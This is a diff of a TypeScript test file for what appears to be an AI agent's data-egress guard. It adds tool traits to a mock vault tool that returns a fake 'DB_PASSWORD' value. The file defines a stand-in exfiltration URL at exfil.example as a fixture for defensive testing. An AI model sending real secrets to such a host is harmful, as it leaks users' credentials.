@@ -13,10 +13,11 @@ import type { ApprovalRequest } from '../../src/core/tools/approvals';
 import { holdsWorkspaceContent } from '../../src/core/tools/dataEgressGuard';
 import { FormulaToolCatalog } from '../../src/core/tools/formulaTools';
 import { done, functionDefinition, type Tool } from '../../src/core/tools/tool';
+import { toolTraits } from '../../src/core/tools/toolTraits';
 import type { Scenario } from '../../src/emulator/index';
 import { startEmulatorTestBed } from '../support/emulatorTestBed';
 import { perTest } from '../support/suiteHooks';
-import { nodeTestHost, ScriptedApprover } from '../unit/core/nodeTestWorkspaceHost';
+import { nodeTestHost, ScriptedApprover } from '../support/testWorkspaceHost';
 
 const MARKER = 'eg3ss-marker';
 const EXFIL = `https://exfil.example/?d=${MARKER}`;
@@ -32,6 +33,7 @@ function scenariosFor(task: string, firstCall: { name: string; arguments: Record
 const secretTool: Tool = {
   definition: functionDefinition('vault_read', 'Reads a value from the project vault.', {}, []),
   origin: { kind: 'mcp', server: 'vault', scope: 'user' },
+  traits: toolTraits({ readsWorkspace: true, changes: 'anything', runsPrograms: true, sendsData: true }),
   run: async () => done(`DB_PASSWORD=${MARKER}`),
 };
 
